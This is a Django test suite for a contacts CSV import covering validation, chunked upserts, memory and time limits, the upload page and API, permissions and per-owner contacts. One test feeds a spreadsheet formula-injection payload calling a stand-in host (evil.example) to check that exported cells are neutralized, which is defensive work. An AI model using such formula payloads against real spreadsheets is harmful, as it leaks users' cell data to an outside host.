"""The CSV import: checks before anything is stored, the chunked upsert, the pages and the API."""
import csv
import gc
import io
import shutil
import tempfile
import tracemalloc
from unittest import mock

from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import TemporaryFileUploadHandler
from django.test import TestCase, override_settings
from django_celery_results.models import TaskResult

from contacts import services
from contacts.models import Contact, ContactImport
from jobs.models import JobRecord
from tests.users import grant


def csv_upload(text: str, name: str = "contacts.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode(), content_type="text/csv")


class ImportTests(TestCase):
    def setUp(self):
        media = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, media)
        self.enterContext(override_settings(MEDIA_ROOT=media))
        self.user = User.objects.create_user("ops", is_staff=True)

    def upload(self, text, **kwargs):
        with self.captureOnCommitCallbacks():
            return services.contact_import_create(upload=csv_upload(text, **kwargs), user=self.user, origin="page")

    def assertRefused(self, text, message):
        with self.assertRaisesMessage(services.ImportRefused, message):
            self.upload(text)
        self.assertFalse(ContactImport.objects.exists())
        self.assertFalse(TaskResult.objects.exists())

    def test_bad_files_are_refused_before_anything_is_stored_or_queued(self):
        self.assertRefused("name,phone\nAda,1\n", "missing: email")
        self.assertRefused("email,name\n", "no rows to import")
        with self.assertRaisesMessage(services.ImportRefused, "not a UTF-8 CSV file"):
            services.contact_import_create(upload=SimpleUploadedFile("x.csv", b"\xff\xfe\x00e"), user=self.user,
                                           origin="page")
        with override_settings(IMPORT_MAX_ROWS=2):
            self.assertRefused("email,name\na@x.io,A\nb@x.io,B\nc@x.io,C\n", "has 3 rows; the limit is 2")
        with override_settings(IMPORT_MAX_BYTES=10):
            self.assertRefused("email,name\na@x.io,A\n", "the limit is 10 (IMPORT_MAX_BYTES)")

    def test_a_good_file_is_stored_and_its_import_launched_as_chunks_then_their_summary(self):
        text = "Email,Name,Phone\n" + "".join(f"p{n}@x.io,P{n},{n}\n" for n in range(5))
        with override_settings(IMPORT_CHUNK_ROWS=2):
            contact_import = self.upload(text)
        self.assertEqual(contact_import.rows, 5)
        steps = list(contact_import.workflow.steps.order_by("position"))
        self.assertEqual([step.task_name for step in steps],
                         ["jobs.import_contacts_chunk"] * 3 + ["jobs.import_contacts_summary"])
        self.assertEqual([step.kwargs["line"] for step in steps[:3]], [2, 4, 6])
        self.assertEqual(steps[-1].input, "chunks")
        records = JobRecord.objects.filter(step__workflow=contact_import.workflow).order_by("step__position")
        self.assertEqual([(record.queue, record.result.status) for record in records],
                         [("long", "PENDING")] * 3 + [("default", "PENDING")])
        # The chunks cover the file's rows, each read alone.
        data = contact_import.file.open("rb").read()
        self.assertEqual(b"".join(data[step.kwargs["start"]:step.kwargs["end"]] for step in steps[:3]),
                         data.split(b"\n", 1)[1])

    def test_chunks_end_on_row_boundaries_even_inside_quotes_and_after_a_byte_order_mark(self):
        text = '\ufeffemail,name\n"a@x.io","Line one\nline two"\nb@x.io,B\n"c@x.io","Caf\u00e9\r\nnoir"\nd@x.io,D\n'
        header, rows, chunks = services._csv_scan(io.BytesIO(text.encode()), 2)
        self.assertEqual((header, rows), (["email", "name"], 4))
        self.assertEqual([chunk.line for chunk in chunks], [2, 5])
        contact_import = self.upload(text)
        with override_settings(IMPORT_CHUNK_ROWS=2):
            counts = services.contact_import_run(import_id=contact_import.pk, report_progress=mock.Mock())
        self.assertEqual(counts, {"rows": 4, "imported": 4, "invalid": 0})
        self.assertEqual(Contact.objects.get(email="c@x.io").name, "Caf\u00e9\r\nnoir")

    def test_an_address_in_several_chunks_keeps_its_last_row_whichever_chunk_runs_last(self):
        text = "email,name\nada@x.io,First\nbo@x.io,Bo\nada@x.io,Last\n"
        with override_settings(IMPORT_CHUNK_ROWS=2):
            contact_import = self.upload(text)
        first, second = contact_import.workflow.steps.filter(task_name="jobs.import_contacts_chunk").order_by("position")
        services.contact_import_chunk(**second.kwargs)
        services.contact_import_chunk(**first.kwargs)  # run after, as a slower or redelivered chunk would
        self.assertEqual(Contact.objects.get(email="ada@x.io").name, "Last")
        # A newer upload wins over a re-run of an older one.
        newer = self.upload("email,name\nada@x.io,Newer\n")
        services.contact_import_run(import_id=newer.pk, report_progress=mock.Mock())
        services.contact_import_chunk(**second.kwargs)
        self.assertEqual(Contact.objects.get(email="ada@x.io").name, "Newer")

    def test_a_chunk_frees_its_rows_when_it_returns_even_after_invalid_ones(self):
        """Each refused row's ValidationError kept the chunk's frame alive: memory grew with the file."""
        text = "email,name\n" + "".join(f"p{n}@x.io,P{n}\n" if n % 100 else f"bad-{n},B\n" for n in range(5000))
        contact_import = self.upload(text)
        chunk = contact_import.workflow.steps.get(task_name="jobs.import_contacts_chunk").kwargs
        services.contact_import_chunk(**chunk)  # warm: imports, compiled queries
        gc.collect()
        gc.disable()
        self.addCleanup(gc.enable)
        tracemalloc.start()
        self.addCleanup(tracemalloc.stop)
        before = tracemalloc.get_traced_memory()[0]
        services.contact_import_chunk(**chunk)
        # The chunk's rows take over 2 MB. What stays is Python's free list of tuples (about 190 kB) and
        # the refused rows' small errors, until the collector runs.
        self.assertLess(tracemalloc.get_traced_memory()[0] - before, 500_000)

    def test_the_summary_adds_up_the_chunks_and_records_the_counts(self):
        contact_import = self.upload("email,name\nada@x.io,Ada\n")
        totals = services.contact_import_summarize(import_id=contact_import.pk, chunks=[
            {"rows": 3, "imported": 2, "invalid": 1}, {"rows": 2, "imported": 2, "invalid": 0}])
        self.assertEqual(totals, {"rows": 5, "imported": 4, "invalid": 1})
        contact_import.refresh_from_db()
        self.assertEqual((contact_import.imported, contact_import.invalid), (4, 1))

    @override_settings(IMPORT_CHUNK_ROWS=2)
    def test_import_upserts_valid_rows_records_invalid_ones_and_never_duplicates(self):
        text = ("email,name,phone\n"
                "ada@x.io,Ada,1\n"
                "not-an-email,Bob,2\n"
                "cy@x.io,,3\n"
                "\"dee@x.io\",\"Dee, Jr.\",4\n"
                "ADA@x.io,Ada Lovelace,5\n")
        contact_import = self.upload(text)
        progress = mock.Mock()
        counts = services.contact_import_run(import_id=contact_import.pk, report_progress=progress)
        self.assertEqual(counts, {"rows": 5, "imported": 3, "invalid": 2})
        self.assertEqual(dict(Contact.objects.values_list("email", "name")),
                         {"ada@x.io": "Ada Lovelace", "dee@x.io": "Dee, Jr."})
        self.assertEqual([(e.line, e.reason) for e in contact_import.errors.all()],
                         [(3, "Enter a valid email address."), (4, "the name is empty")])
        self.assertEqual([call.args[:2] for call in progress.call_args_list], [(2, 5), (4, 5), (5, 5)])
        self.assertEqual(services.import_errors_csv(contact_import).splitlines(),
                         ["line,reason,row", "3,Enter a valid email address.,\"not-an-email,Bob,2\"",
                          "4,the name is empty,\"cy@x.io,,3\""])

        services.contact_import_run(import_id=contact_import.pk, report_progress=progress)  # a redelivery
        self.upload(text)  # the same file again
        services.contact_import_run(import_id=ContactImport.objects.first().pk, report_progress=progress)
        self.assertEqual(Contact.objects.count(), 2)
        self.assertEqual(contact_import.errors.count(), 2)

    @override_settings(IMPORT_CHUNK_ROWS=2)
    def test_a_soft_time_limit_keeps_the_chunks_done_and_a_rerun_finishes(self):
        from celery.exceptions import SoftTimeLimitExceeded

        text = "email,name\n" + "".join(f"p{n}@x.io,P{n}\n" for n in range(10))
        contact_import = self.upload(text)
        parse = services._parse
        calls = 0

        def parse_until_the_limit(row, positions):
            nonlocal calls
            calls += 1
            if calls == 6:
                raise SoftTimeLimitExceeded()
            return parse(row, positions)

        with mock.patch.object(services, "_parse", parse_until_the_limit), self.assertRaises(SoftTimeLimitExceeded):
            services.contact_import_run(import_id=contact_import.pk, report_progress=mock.Mock())
        contact_import.refresh_from_db()
        self.assertEqual((contact_import.imported, Contact.objects.count()), (4, 4))  # the third chunk is undone whole
        services.contact_import_run(import_id=contact_import.pk, report_progress=mock.Mock())
        self.assertEqual(Contact.objects.count(), 10)

    def test_upload_page_and_api(self):
        self.client.force_login(self.user)
        with self.captureOnCommitCallbacks():
            response = self.client.post("/imports/", {"file": csv_upload("email,name\nada@x.io,Ada\n")})
        contact_import = ContactImport.objects.get()
        self.assertRedirects(response, f"/jobs/workflows/{contact_import.workflow_id}/", fetch_redirect_response=False)
        response = self.client.post("/imports/", {"file": csv_upload("name\nAda\n")})
        self.assertContains(response, "missing: email")
        with self.captureOnCommitCallbacks():
            response = self.client.post("/api/imports/", {"file": csv_upload("email,name\nbo@x.io,Bo\n")})
        self.assertEqual(response.status_code, 202)
        self.assertEqual(response.json()["rows"], 1)
        flow = ContactImport.objects.get(pk=response.json()["id"]).workflow
        self.assertEqual(response["Location"], f"http://testserver/api/workflows/{flow.pk}/")
        self.assertEqual(response.json()["job"], "http://testserver/api/jobs/"
                         f"{flow.steps.get(task_name='jobs.import_contacts_summary').task_id}/")
        with override_settings(IMPORT_MAX_BYTES=5):
            response = self.client.post("/api/imports/", {"file": csv_upload("email,name\nbo@x.io,Bo\n")})
        self.assertEqual(response.status_code, 413)
        self.assertEqual(ContactImport.objects.count(), 2)

    def test_a_multipart_body_that_cannot_be_parsed_gets_the_apis_json_400(self):
        """Found by the schema fuzzer: a part whose headers never end made Django answer its HTML page."""
        self.client.force_login(self.user)
        boundary = "8c7ee9e9738b7b8a554b35987314dda1"
        body = f"--{boundary}\r\n{'x' * 2000}--{boundary}--\r\n"  # no blank line ends the part's headers
        response = self.client.generic("POST", "/api/imports/", body.encode(),
                                       content_type=f"multipart/form-data; boundary={boundary}")
        self.assertEqual(response.status_code, 400)
        self.assertIn("not a multipart form Django can read", response.json()["detail"])
        self.assertFalse(ContactImport.objects.exists())

    def test_errors_download_is_for_the_uploader_and_those_with_the_view_permission(self):
        contact_import = self.upload("email,name\nbad,Bad\n")
        services.contact_import_run(import_id=contact_import.pk, report_progress=mock.Mock())
        someone = User.objects.create_user("someone", is_staff=True)
        self.client.force_login(someone)
        self.assertEqual(self.client.get(f"/imports/{contact_import.pk}/errors.csv").status_code, 404)
        self.client.force_login(grant(someone, "contacts.view_contactimport"))
        self.assertEqual(self.client.get(f"/imports/{contact_import.pk}/errors.csv").status_code, 200)
        self.client.force_login(self.user)
        response = self.client.get(f"/imports/{contact_import.pk}/errors.csv")
        self.assertEqual(response["Content-Type"], "text/csv")
        self.assertIn(b"2,Enter a valid email address.,\"bad,Bad\"", response.content)

    def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralized(self):
        contact_import = self.upload('email,name\n=HYPERLINK("http://evil.example/?"&A1),Eve\n@SUM(1+1),Mal\n')
        services.contact_import_run(import_id=contact_import.pk, report_progress=mock.Mock())
        rows = list(csv.reader(io.StringIO(services.import_errors_csv(contact_import))))
        self.assertEqual([row[2][:2] for row in rows[1:]], ["'=", "'@"])

    def test_a_row_with_a_nul_byte_is_refused_and_the_rest_imported(self):
        contact_import = self.upload("email,name\nada@x.io,Ada\nbo@x.io,B\x00o\ncy@x.io,Cy\n")
        counts = services.contact_import_run(import_id=contact_import.pk, report_progress=mock.Mock())
        self.assertEqual(counts, {"rows": 3, "imported": 2, "invalid": 1})
        error = contact_import.errors.get()
        self.assertEqual((error.line, error.reason, error.raw), (3, "the row contains a NUL character", "bo@x.io,B\\x00o"))

    @override_settings(IMPORT_MAX_BYTES=1000)
    def test_an_oversized_upload_is_stopped_before_it_is_spooled_and_the_attempt_counts(self):
        self.client.force_login(self.user)
        big = csv_upload("email,name\n" + "a@x.io,A\n" * 200_000)  # 1.8 MB against a 1 kB limit
        with mock.patch.object(TemporaryFileUploadHandler, "receive_data_chunk") as spooled, \
                override_settings(JOBS_LAUNCH_RATE="1/m"):
            response = self.client.post("/api/imports/", {"file": big})
            self.assertEqual(response.status_code, 413)
            self.assertIn("larger than 1,000 bytes", response.json()["detail"])
            spooled.assert_not_called()
            self.assertEqual(self.client.post("/api/imports/", {"file": csv_upload("email,name\na@x.io,A\n")})
                             .status_code, 429)  # the refused upload was counted
        response = self.client.post("/imports/", {"file": csv_upload("email,name\n" + "a@x.io,A\n" * 200)})
        self.assertContains(response, "larger than 1,000 bytes", status_code=413)
        self.assertFalse(ContactImport.objects.exists())


class ContactOwnerTests(TestCase):
    """Contacts belong to whoever imported them: nobody's upload overwrites another's contact."""

    def setUp(self):
        media = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, media)
        self.enterContext(override_settings(MEDIA_ROOT=media))

    def import_as(self, user, text):
        with self.captureOnCommitCallbacks():
            contact_import = services.contact_import_create(upload=csv_upload(text), user=user, origin="page")
        services.contact_import_run(import_id=contact_import.pk, report_progress=mock.Mock())

    def test_the_same_address_imported_by_two_people_is_two_contacts(self):
        alice, mallory = User.objects.create_user("alice"), User.objects.create_user("mallory")
        self.import_as(alice, "email,name\nada@x.io,Ada Lovelace\n")
        self.import_as(mallory, "email,name\nada@x.io,Overwritten\n")
        self.assertEqual(Contact.objects.get(owner=alice).name, "Ada Lovelace")
        self.assertEqual(Contact.objects.get(owner=mallory).name, "Overwritten")

        self.client.force_login(alice)
        page = self.client.get("/imports/contacts/")
        self.assertContains(page, "Ada Lovelace")
        self.assertNotContains(page, "Overwritten")
        self.client.force_login(grant(User.objects.create_user("ops"), "contacts.view_contact"))
        page = self.client.get("/imports/contacts/")
        self.assertContains(page, "Ada Lovelace")
        self.assertContains(page, "Overwritten")
